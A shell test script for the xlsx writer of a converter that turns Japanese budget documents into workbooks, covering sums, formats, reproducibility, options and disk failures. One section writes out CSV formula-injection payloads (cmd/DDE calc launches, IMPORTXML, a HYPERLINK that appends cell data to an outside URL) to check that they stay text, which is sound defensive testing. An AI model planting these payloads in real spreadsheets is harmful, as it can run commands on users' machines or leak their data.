#!/bin/sh
# The xlsx writer through the command: workbooks read back with openpyxl, unzip and LibreOffice; failing file systems.
. tests/lib.sh
py=python3
[ -x /usr/bin/python3 ] && py=/usr/bin/python3
read_back="$py tests/cli/xlsx_read.py"
budget=$(ls fixtures/seeds/003_*.txt)

to_xlsx() { "$KW" "$1" -o "$2" --to xlsx -q; }
sound() { unzip -tqq "$1"; }
silent() { [ ! -s "$W/said" ]; }
same() { cmp -s "$1" "$2"; }

# ---- the seed with amounts ----
t "budget workbook" to_xlsx "$budget" "$W/b.xlsx"
t "zip is sound" sound "$W/b.xlsx"
t "sheets" $read_back sheets "$W/b.xlsx" 概要,予算,集計,事業一覧,本文,出典
t "amounts in the unit of the source" $read_back sum "$W/b.xlsx" 予算 予算額 68388
t "amounts in yen" $read_back sum "$W/b.xlsx" 予算 "予算額（円）" 68388000
t "numbers like 1-1-1 stay text" $read_back texts "$W/b.xlsx" 予算 番号
t "page set-up of every sheet" $read_back page "$W/b.xlsx"
t "no formulas in the text" $read_back formulas "$W/b.xlsx" 本文 0

# ---- what LibreOffice calculates is what was written as the result ----
if command -v soffice >/dev/null 2>&1; then
	$py tests/cli/xlsx_forget.py "$W/b.xlsx" "$W/forgotten.xlsx"
	t "LibreOffice opens it" env HOME="$W" soffice --headless --convert-to \
		'csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1' \
		--outdir "$W" "$W/forgotten.xlsx"
	t_says "合計,,5,68388,100%" "recalculated totals" cat "$W/forgotten-概要.csv"
	t_says "予算シートと一致" "recalculated control cell" cat "$W/forgotten-概要.csv"
	t_says "経営課題1,だれもが地域で安心して暮らせるまちづくり,1,28523,41.7" "recalculated group" \
		cat "$W/forgotten-概要.csv"
	t_says "合計,,,,,,,68388,,,68388000," "recalculated subtotal" cat "$W/forgotten-予算.csv"
else
	t_skip "LibreOffice opens it" "soffice is not installed"
fi

# ---- the seeds without amounts ----
for seed in fixtures/seeds/00[0124]_*.txt; do
	stem=$(basename "$seed" .txt)
	t "$stem" to_xlsx "$seed" "$W/$stem.xlsx"
	t "$stem: zip is sound" sound "$W/$stem.xlsx"
	t_says "この資料には金額の記載がありません。" "$stem" unzip -p "$W/$stem.xlsx" xl/sharedStrings.xml
	t "$stem: no formulas" $read_back formulas "$W/$stem.xlsx" 概要 0
	t_says "事業一覧" "$stem" unzip -p "$W/$stem.xlsx" xl/workbook.xml
done

# ---- a budget of 款 項 目 節 with the year before, sums among the rows and negative amounts ----
levels=fixtures/csv/expenditure.csv
t "a budget of four levels" to_xlsx "$levels" "$W/levels.xlsx"
t "its sheets" $read_back sheets "$W/levels.xlsx" 概要,予算,集計,本文,expenditure,出典
t "sums in the unit of the source, without the rows that sum up" $read_back sum "$W/levels.xlsx" 予算 本年度予算額 1136844
t "the year before" $read_back sum "$W/levels.xlsx" 予算 前年度予算額 1063601
t "the sheet of sums: a level" $read_back cell "$W/levels.xlsx" 集計 B8 総務管理費
t "the sheet of sums: its sum" $read_back cell "$W/levels.xlsx" 集計 D8 361155
t "codes keep their zeros" $read_back cell "$W/levels.xlsx" 予算 A4 01-01-01-01
t "a negative amount" $read_back cell "$W/levels.xlsx" 予算 J18 -1250
t "an amount that is gone" $read_back cell "$W/levels.xlsx" 予算 M6 皆減
t "page set-up of every sheet" $read_back page "$W/levels.xlsx"
t_says 'outlineLevel="2"' "rows are grouped by level" unzip -p "$W/levels.xlsx" xl/worksheets/sheet3.xml
t_says 'summaryBelow="0"' "sums stand above" unzip -p "$W/levels.xlsx" xl/worksheets/sheet3.xml
t_says 'pieChart' "a pie of shares" unzip -p "$W/levels.xlsx" xl/charts/chart2.xml
t_says '款別の本年度予算額の構成比' "its title" unzip -p "$W/levels.xlsx" xl/charts/chart2.xml
t "blanks, parents before their parts" to_xlsx fixtures/csv/special-account.csv "$W/special.xlsx"
t "each part once" $read_back sum "$W/special.xlsx" 予算 予算額_本年度 106220
t "both profiles" "$KW" "$levels" -o "$W/both/" --to xlsx -q --opt xlsx.profile=both
t "the table for machines" $read_back machine "$(ls "$W"/both/src-*_budget.xlsx)"
t "thousands" "$KW" "$levels" -o "$W/thousands.xlsx" --to xlsx -q --opt xlsx.unit=thousand-yen
t "amounts shown in thousands are yen" $read_back sum "$W/thousands.xlsx" 予算 本年度予算額 1136844000
t_says '#,##0,;△#,##0,' "with their format" unzip -p "$W/thousands.xlsx" xl/styles.xml
printf '行事,開催日\n花火,2023-07-29\n祭り,令和5年10月1日\n' >"$W/days.csv"
"$KW" "$W/days.csv" -o "$W/era.xlsx" --to xlsx -q --opt xlsx.dates=era
t_says 'ggge&quot;年&quot;m&quot;月&quot;d&quot;日' "dates by era" unzip -p "$W/era.xlsx" xl/styles.xml
t "are dates" $read_back cell "$W/era.xlsx" days B5 2023-10-01
if command -v soffice >/dev/null 2>&1; then
	mkdir "$W/recalculated"
	for book in levels special thousands b; do $py tests/cli/xlsx_forget.py "$W/$book.xlsx" "$W/recalculated/$book.xlsx"; done
	mkdir "$W/recalculated/out"
	env HOME="$W" soffice --headless --convert-to xlsx --outdir "$W/recalculated/out" "$W"/recalculated/*.xlsx >/dev/null 2>&1
	for book in levels special thousands b; do
		t "$book: each formula gives what was written as its result" $py tests/cli/xlsx_recalc.py "$W/$book.xlsx" "$W/recalculated/out/$book.xlsx"
	done
else
	t_skip "recalculation" "soffice is not installed"
fi

# ---- the same bytes ----
env TZ=Asia/Tokyo LC_ALL=C "$KW" "$budget" -o "$W/again.xlsx" --to xlsx -q
t "same bytes in another time zone and locale" same "$W/b.xlsx" "$W/again.xlsx"
env SOURCE_DATE_EPOCH=1700000000 "$KW" "$budget" -o "$W/dated.xlsx" --to xlsx -q
env SOURCE_DATE_EPOCH=1700000000 "$KW" "$budget" -o "$W/dated2.xlsx" --to xlsx -q
t "same bytes with SOURCE_DATE_EPOCH" same "$W/dated.xlsx" "$W/dated2.xlsx"
t_says "2023-11-14T22:13:20Z" "SOURCE_DATE_EPOCH is the date of creation" unzip -p "$W/dated.xlsx" docProps/core.xml
env SOURCE_DATE_EPOCH=0 "$KW" "$budget" -o "$W/zero.xlsx" --to xlsx -q
t "an epoch of 0 is not the clock" same "$W/b.xlsx" "$W/zero.xlsx"

# ---- options ----
t_exit 2 "a font name over 31 characters" "$KW" "$budget" -o "$W/f.xlsx" --to xlsx -q \
	--opt xlsx.font=1234567890123456789012345678901234567890
t_exit 2 "an empty font name" "$KW" "$budget" -o "$W/f.xlsx" --to xlsx -q --opt xlsx.font=
"$KW" "$budget" -o "$W/mincho.xlsx" --to xlsx -q --opt 'xlsx.font=ＭＳ 明朝'
t_says 'name val="ＭＳ 明朝"' "the font is that of the option" unzip -p "$W/mincho.xlsx" xl/styles.xml

# ---- the opendata profile: the table of the CSV, for machines ----
to_data() { "$KW" "$1" -o "$2" --to xlsx -q --opt xlsx.profile=opendata; }
told() { "$KW" "$budget" -q -o "$W/told/" --to opendata,xlsx --opt xlsx.profile="$1" --opt xlsx.publisher=27124 \
	--opt xlsx.licence=cc-by-4.0 --opt opendata.publisher=27124; }
slug=271241-unei-hoshin-2022-an
t "profile opendata" told opendata
t "its name is the slug" [ -f "$W/told/${slug}_budget.xlsx" ]
t "the table is that of the CSV" $read_back machine "$W/told/${slug}_budget.xlsx" "$W/told/${slug}_budget.csv"
t "its sheets" $read_back sheets "$W/told/${slug}_budget.xlsx" 予算額,出典
t "amounts are numbers in yen" $read_back cell "$W/told/${slug}_budget.xlsx" 予算額 N2 28523000
t "the licence is stated" $read_back cell "$W/told/${slug}_budget.xlsx" 出典 B7 https://creativecommons.org/licenses/by/4.0/
t_exit 1 "the print workbook is no table for machines" $read_back machine "$W/b.xlsx"
cp "$W/told/${slug}_budget.xlsx" "$W/alone.xlsx"
rm -rf "$W/told"
t "profile both" told both
t "the print workbook is the main output" same "$W/b.xlsx" "$W/told/$(basename "$budget" .txt)_print.xlsx"
t "the other stands beside it" same "$W/alone.xlsx" "$W/told/${slug}_budget.xlsx"
env TZ=Asia/Tokyo LC_ALL=C "$KW" "$budget" -o "$W/again.xlsx" --to xlsx -q --opt xlsx.profile=opendata --opt xlsx.publisher=27124 \
	--opt xlsx.licence=cc-by-4.0
t "same bytes in another time zone and locale" same "$W/alone.xlsx" "$W/again.xlsx"
t "without a publisher" to_data "$budget" "$W/un/"
t "the name is that of the source's hash" $read_back machine "$(ls "$W"/un/src-*_budget.xlsx)"
for csv in fixtures/csv/budget.csv fixtures/csv/facilities.csv fixtures/csv/ragged.csv; do
	t "$csv" "$KW" "$csv" -o "$W/of-$(basename $csv)/" --to opendata,xlsx -q --opt xlsx.profile=opendata
	book=$(ls "$W/of-$(basename $csv)"/*.xlsx)
	t "$csv: a table for machines" $read_back machine "$book" $(ls "$W/of-$(basename $csv)"/*_budget.csv 2>/dev/null)
done
t "codes of a data table keep their zeros" $read_back cell "$W"/of-facilities.csv/*_data.xlsx facilities A2 010006
plain=$(ls fixtures/seeds/001_*.txt)
"$KW" "$plain" -v -o "$W/none.xlsx" --to xlsx --opt xlsx.profile=opendata >"$W/said" 2>&1
t_says "[xlsx.no-data]" "a document without data is reported" cat "$W/said"
t "its workbook says so" $read_back sheets "$W/none.xlsx" 出典
t "and is one for machines too" $read_back machine "$W/none.xlsx"
t "profile both has nothing to add" "$KW" "$plain" -o "$W/nothing/" --to xlsx -q --opt xlsx.profile=both
t "and adds nothing" [ "$(ls "$W/nothing" | wc -l)" = 1 ]
t_exit 2 "an unknown profile" "$KW" "$budget" -o "$W/f.xlsx" --to xlsx -q --opt xlsx.profile=screen
t_exit 2 "a wrong check digit" "$KW" "$budget" -o "$W/f.xlsx" --to xlsx -q --opt xlsx.profile=both --opt xlsx.publisher=271242
t_exit 2 "an unknown licence" "$KW" "$budget" -o "$W/f.xlsx" --to xlsx -q --opt xlsx.profile=opendata --opt xlsx.licence=free
t "nothing was left behind" [ ! -e "$W/f.xlsx" ]
cat >"$W/mixed.csv" <<'END'
品目,単価（円）,割合,開設日,件数,備考
りんご,"1,200円",12.5%,2022/4/1,100,=1+1
みかん,未定,3%,2022/5/1,△20,0012
"ぶどう
大",300円,-1.25%,2022-06-01,多数,@x
なし,5円,4%,2022-06-02,7,x
END
t "a table of mixed columns" to_data "$W/mixed.csv" "$W/mixed.xlsx"
t "each column is of one kind" $read_back machine "$W/mixed.xlsx"
t_says "1,200円" "what is no number says so in its head" $read_back texts "$W/mixed.xlsx" mixed 単価_原表記

# ---- input that looks like formulas, codes, dates ----
cat >"$W/hostile.csv" <<'END'
コード,番号,式,長い番号
010006,1-1,=1+1,1234567890123456
010007,1-2,"=HYPERLINK(""http://example.jp"",""x"")",0000000000000001
010008,2-1,+SUM(A1),9999999999999999
010009,2-2,-2+3,1234567890123457
010010,3-1,@SUM(A1),1234567890123458
010011,3-2,=cmd|' /C calc'!A0,1234567890123459
010012,3-3,"	=1+1",1234567890123460
END
t "a table of hostile text" to_xlsx "$W/hostile.csv" "$W/hostile.xlsx"
t "its text is no formula" $read_back formulas "$W/hostile.xlsx" hostile 0
t_says "=HYPERLINK" "its text is kept" $read_back texts "$W/hostile.xlsx" hostile 式
t_says "010006" "codes keep their zeros" $read_back texts "$W/hostile.xlsx" hostile コード
t "1-1 is text" $read_back texts "$W/hostile.xlsx" hostile 番号
t_says "1234567890123457" "16 figures are text" $read_back texts "$W/hostile.xlsx" hostile 長い番号

# what OWASP lists as the beginnings of formulas (CSV injection), their full-width forms, and what hides them
$py - "$W/owasp.csv" <<'END'
import csv, sys
begins = ["=", "+", "-", "@", "\t=", "\r=", "\n=", "＝", "＋", "－", "＠", " =", "'=", '"=', "%0A=", "0=", ";=", "|=", "\u200b=", "\ufeff="]
tails = ["1+1", "SUM(A1:A9)", "cmd|'/C calc'!A1", 'HYPERLINK("http://example.jp?x="&A1,"x")', 'DDE("cmd";"/C calc";"x")', "IMPORTXML(A1,A2)"]
with open(sys.argv[1], "w", encoding="utf-8", newline="") as f:
    out = csv.writer(f)
    out.writerow(["=HEAD()", "+HEAD", "@HEAD", "款", "予算額（千円）"])
    for b in begins:
        for t in tails:
            out.writerow([b + t, "x", b + t, b + t, "5"])
END
for profile in print opendata; do
	t "OWASP list, $profile" "$KW" "$W/owasp.csv" -o "$W/owasp-$profile.xlsx" --to xlsx -q --opt xlsx.profile=$profile
	t "OWASP list, $profile: no formula came from the text" $read_back ours "$W/owasp-$profile.xlsx"
done

# ---- long text ----
$py -c 'print("長い文の表題\n\n" + "漢" * 40000 + "。")' >"$W/long.txt"
"$KW" "$W/long.txt" -o "$W/long.xlsx" --to xlsx >"$W/said" 2>&1
t_says "xlsx.long-text" "text over the limit of a cell is reported" cat "$W/said"
t_exit 4 "and refused when asked" "$KW" "$W/long.txt" -o "$W/refused.xlsx" --to xlsx -q --opt xlsx.long-text=refuse
t "refused: no file" [ ! -e "$W/refused.xlsx" ]
t "and kept whole" sh -c "[ \$(unzip -p '$W/long.xlsx' xl/sharedStrings.xml | grep -o 漢 | wc -l) = 40000 ]"

# ---- wide tables: one page as long as it can be read ----
$py - "$W" <<'PY'
import sys
def make(name, n, width):
    with open(f"{sys.argv[1]}/{name}.csv", "w", encoding="utf-8") as f:
        for row in range(6):
            f.write(",".join(f"列{i}" if row == 0 else "道路と公園の利用について" * width if i % 2 else str(row * 1000 + i) for i in range(n)) + "\n")
make("wide", 12, 3)
make("widest", 60, 1)
make("narrow", 4, 1)
PY
for name in narrow wide widest; do to_xlsx "$W/$name.csv" "$W/$name.xlsx"; done
t "a narrow table is one page wide" $read_back wide "$W/narrow.xlsx" narrow 1
t "a wide one too" $read_back wide "$W/wide.xlsx" wide 1
t "since its texts take several lines" $read_back wraps "$W/wide.xlsx" wide B5
t "a narrow one needs none" sh -c '! "$@"' - $read_back wraps "$W/narrow.xlsx" narrow B5
t "the widest goes over pages, each with its first column" $read_back wide "$W/widest.xlsx" widest 5

# ---- file systems that fail ----
nothing_left() { [ -z "$(ls -A "$1")" ]; }
one_error() { [ "$(grep -c 'error: ' "$W/said")" = 1 ] && [ "$(wc -l <"$W/said")" = "$(grep -cE ': (error|warning|note): ' "$W/said")" ]; }
mkdir "$W/small"
if [ "$(id -u)" = 0 ] && mount -t tmpfs -o size=64k tmpfs "$W/small" 2>/dev/null; then
	bad=0 full=0
	for kib in 16 64 128 192 256 320 384; do
		mount -o remount,size=${kib}k "$W/small"
		"$KW" "$budget" -o "$W/small/b.xlsx" --to xlsx >"$W/said" 2>&1
		code=$?
		if [ $code = 0 ]; then
			same "$W/b.xlsx" "$W/small/b.xlsx" || bad=$((bad + 1))
			rm -f "$W/small/b.xlsx"
		else
			full=$((full + 1))
			[ $code = 6 ] && one_error && nothing_left "$W/small" || { bad=$((bad + 1)); cp "$W/said" "$W/bad-$kib"; }
		fi
	done
	umount "$W/small"
	t "a full disk: exit 6, one message, nothing left" [ $bad = 0 ]
	t "some disks were too small, some not" [ $full -gt 0 -a $full -lt 7 ]
else
	t_skip "a full disk" "needs root and mount"
fi
mkdir "$W/limited"
(ulimit -f 4; exec "$KW" "$budget" -o "$W/limited/b.xlsx" --to xlsx -q) >"$W/said" 2>&1
t "a limit on file sizes: exit 6" [ $? = 6 ]
t "nothing left" nothing_left "$W/limited"
